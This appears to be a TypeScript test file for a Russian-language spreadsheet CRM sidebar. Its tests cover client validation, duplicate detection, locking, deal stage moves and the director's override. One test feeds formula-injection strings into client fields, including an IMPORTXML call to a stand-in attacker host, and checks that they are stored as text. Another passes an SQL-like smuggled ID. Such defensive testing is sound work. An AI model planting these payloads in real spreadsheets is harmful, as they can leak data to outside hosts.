/**
 * The server functions the sidebar calls, through the local runtime: new
 * clients (validation, duplicates, IDs under the lock, text kept as text), deal
 * moves and the director's override, the cost of an edit.
 */
import { formatDateRu } from '../../src/domain/crm/values';
import { SHEETS } from '../../src/domain/workbook/schema';
import type { ClientCardDto } from '../../src/shared/api';
import {
  CLIENT_A,
  DIRECTOR,
  TODAY,
  IVANOV,
  PETROVA,
  cell,
  columnOf,
  crmSession,
  crmWorkbook,
  fullDeal,
  rowsOf,
} from './crm-workbook';

const newClient = (name: string, extra: Record<string, string> = {}) => ({
  Клиент: name,
  Тип: 'Физлицо',
  Источник: 'Сайт',
  Телефон: `8 (912) 000-00-${String(name.length).padStart(2, '0')}`,
  ...extra,
});

describe('createClient', () => {
  it('returns a Russian error per field and saves nothing', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    const result = session.run('createClient', [
      { Клиент: '', Тип: 'Юрлицо', ИНН: '123', Телефон: '12345', Email: 'a@', Источник: 'Сайт' },
      false,
    ]);
    expect(result).toMatchObject({
      status: 'invalid',
      errors: {
        Клиент: expect.stringMatching(/название/),
        ИНН: expect.stringMatching(/10 цифр/),
        Телефон: expect.stringMatching(/не российский/),
        Email: expect.stringMatching(/e-mail/),
      },
    });
    expect(rowsOf(session.workbook, SHEETS.clients)).toHaveLength(1);
  });

  it('warns about a likely duplicate by phone and saves only when confirmed', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    const form = newClient('Тепло-2', { Телефон: '8 912 345-67-89' });
    expect(session.run('createClient', [form, false])).toEqual({
      status: 'duplicate',
      matches: [{ clientId: 'К-00001', name: 'ООО «Тепло»', matchedBy: ['Телефон'] }],
    });
    expect(session.run('createClient', [form, true])).toEqual({ status: 'created', clientId: 'К-00002' });
    expect(cell(session.workbook, SHEETS.clients, 3, 'Телефон')).toBe('+79123456789');
    expect(cell(session.workbook, SHEETS.clients, 3, 'Ответственный')).toBe(IVANOV);
    expect(cell(session.workbook, SHEETS.clients, 3, 'Статус клиента')).toBe('Потенциальный');
  });

  it('keeps text that starts with =, +, - or @ as text, never a formula', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    const injections = {
      Клиент: '=IMPORTXML("http://evil.example/x","//a")',
      'Контактное лицо': '+SUM(1,2)',
      Город: '-1+2',
      'Особые условия': '@import',
      Примечание: '12,5',
    };
    const result = session.run('createClient', [newClient('x', injections), false]);
    expect(result).toMatchObject({ status: 'created' });
    const sheet = session.workbook.sheets.find((s) => s.name === SHEETS.clients)!;
    for (const [header, text] of Object.entries(injections)) {
      const model = sheet.rows[2]![columnOf(session.workbook, SHEETS.clients, header) - 1]!;
      expect([header, model.value, model.formula]).toEqual([header, text, undefined]);
    }
  });

  it('gives distinct IDs to clients created at the same moment by two people', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    // Petrova's save starts while Ivanov's is reading the client IDs
    let second: unknown;
    let secondError: unknown;
    let sawLock = false;
    const stop = session.onServiceCall((call) => {
      if (call === 'Lock.waitLock') sawLock = true;
      if (call !== 'Range.getValues' || second !== undefined || secondError !== undefined) return;
      try {
        second = session.runAs(PETROVA, 'createClient', [newClient('Второй клиент'), false]);
      } catch (error) {
        secondError = error;
      }
    });
    const first = session.run('createClient', [newClient('Первый'), false]);
    stop();
    expect(sawLock).toBe(true);
    // whether Petrova's save ran before Ivanov took the lock or was told to retry, no ID repeats
    const ids = rowsOf(session.workbook, SHEETS.clients).map((r) => r['ID клиента']);
    expect(new Set(ids).size).toBe(ids.length);
    expect(first).toMatchObject({ status: 'created' });
    if (secondError) expect(String((secondError as Error).message)).toMatch(/другой пользователь/);
    else expect((second as { clientId: string }).clientId).not.toBe((first as { clientId: string }).clientId);
  });

  it('makes the second of two simultaneous saves wait for the lock rather than reuse an ID', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    let insideLock = false;
    let secondError: unknown;
    let started = false;
    const stop = session.onServiceCall((call) => {
      if (call === 'Lock.waitLock') insideLock = true;
      if (!insideLock || started || call !== 'Range.getValues') return;
      started = true;
      try {
        session.runAs(PETROVA, 'createClient', [newClient('Второй клиент'), false]);
      } catch (error) {
        secondError = error;
      }
    });
    expect(session.run('createClient', [newClient('Первый'), false])).toEqual({
      status: 'created',
      clientId: 'К-00002',
    });
    stop();
    expect(started).toBe(true);
    expect(String((secondError as Error).message)).toMatch(/Таблицу сейчас сохраняет другой пользователь/);
    // Petrova retries and gets the next ID
    expect(session.runAs(PETROVA, 'createClient', [newClient('Второй клиент'), false])).toEqual({
      status: 'created',
      clientId: 'К-00003',
    });
  });
});

describe('moveDeal and overrideStage', () => {
  it('fills the given fields and moves the deal one stage', () => {
    const deal = fullDeal('С-00001', 'Надёжность оценена', { 'Дата переговоров': '' });
    const session = crmSession(crmWorkbook({ deals: [deal] }), IVANOV);
    const refused = session.run('moveDeal', ['С-00001', 'Переговоры', {}]);
    expect(refused).toMatchObject({ ok: false, missing: [{ header: 'Дата переговоров', on: 'deal' }] });
    const moved = session.run('moveDeal', ['С-00001', 'Переговоры', { 'Дата переговоров': '11.03.2026' }]);
    expect(moved).toMatchObject({ ok: true, dealId: 'С-00001', stage: 'Переговоры', stageDate: formatDateRu(TODAY) });
    // the card after the move comes with the answer: the sidebar shows it without another call
    expect((moved as { card: ClientCardDto }).card.deals).toEqual([
      expect.objectContaining({ id: 'С-00001', stage: 'Переговоры', stageDate: formatDateRu(TODAY) }),
    ]);
    expect(cell(session.workbook, SHEETS.deals, 2, 'Дата переговоров')).toEqual(new Date(2026, 2, 11));
  });

  it('refuses another specialist\u2019s deal', () => {
    const session = crmSession(crmWorkbook({ deals: [fullDeal('С-00001', 'Новый')] }), PETROVA);
    expect(() => session.run('moveDeal', ['С-00001', 'Потребность выявлена', {}])).toThrow(/другой сотрудник/);
  });

  it('checks its arguments', () => {
    const session = crmSession(crmWorkbook({ deals: [fullDeal('С-00001', 'Новый')] }), IVANOV);
    expect(() => session.run('moveDeal', ['С-1; DROP', 'Новый', {}])).toThrow(/не ID/);
    expect(() => session.run('moveDeal', ['С-00001', 'Новый', { 'ID сделки': 'С-00009' }])).toThrow(/нельзя изменить/);
    expect(() => session.run('createClient', ['строка', false])).toThrow(/набором полей/);
  });

  it('lets only the director override a stage, with a reason that is logged', () => {
    const session = crmSession(crmWorkbook({ deals: [fullDeal('С-00001', 'Новый')] }), IVANOV);
    expect(() => session.run('overrideStage', ['С-00001', 'Исполнение', 'Импорт из старой базы'])).toThrow(
      /только директор/,
    );
    session.setUser(DIRECTOR);
    session.run('overrideStage', ['С-00001', 'Исполнение', 'Импорт из старой базы']);
    expect(cell(session.workbook, SHEETS.deals, 2, 'Этап')).toBe('Исполнение');
    const log = rowsOf(session.workbook, SHEETS.log);
    expect(log).toContainEqual(
      expect.objectContaining({
        Действие: 'Этап изменён директором',
        ID: 'С-00001',
        Комментарий: 'Импорт из старой базы',
      }),
    );
    // the deal reached «Договор заключён» and beyond, so its client became a «Клиент»
    expect(cell(session.workbook, SHEETS.clients, 2, 'Статус клиента')).toBe('Клиент');
  });

  it('shows the client card with allowed moves and their missing fields', () => {
    const deal = fullDeal('С-00001', 'Переговоры', { 'Сумма КП, руб.': '' });
    const session = crmSession(crmWorkbook({ deals: [deal] }), IVANOV);
    const card = session.run('getClientCard', ['К-00001']) as {
      fields: Record<string, string>;
      deals: Array<{ id: string; moves: Array<{ to: string; allowed: boolean; missing: Array<{ header: string }> }> }>;
    };
    expect(card.fields['Клиент']).toBe(CLIENT_A['Клиент']);
    expect(card.deals[0].moves[0]).toMatchObject({
      to: 'КП отправлено',
      allowed: false,
      missing: [{ header: 'Сумма КП, руб.' }],
    });
  });
});

describe('the cost of a single-cell stage edit', () => {
  function callsFor(rows: number): number {
    const deals = Array.from({ length: rows }, (_, i) => fullDeal(`С-${String(i + 1).padStart(5, '0')}`, 'Новый'));
    const session = crmSession(crmWorkbook({ deals }), IVANOV);
    session.resetCalls();
    session.edit({
      sheet: SHEETS.deals,
      row: rows,
      column: columnOf(session.workbook, SHEETS.deals, 'Этап'),
      values: [['Потребность выявлена']],
    });
    expect(cell(session.workbook, SHEETS.deals, rows, 'Этап')).toBe('Потребность выявлена');
    return Object.values(session.calls()).reduce((a, b) => a + b, 0);
  }

  it('is the same number of service calls at 100 and at 20 000 rows', () => {
    const small = callsFor(100);
    const large = callsFor(20_000);
    expect(large).toBe(small);
    // includes the trigger's heartbeat, the simple trigger's note of the edit, the memory re-read under
    // the lock and the two time zones (the spreadsheet's, the script's) read once for its dates; the memory
    // and the client are found by TextFinder (a few calls more), so the cells read do not grow either
    expect(small).toBeLessThan(105);
  });
});
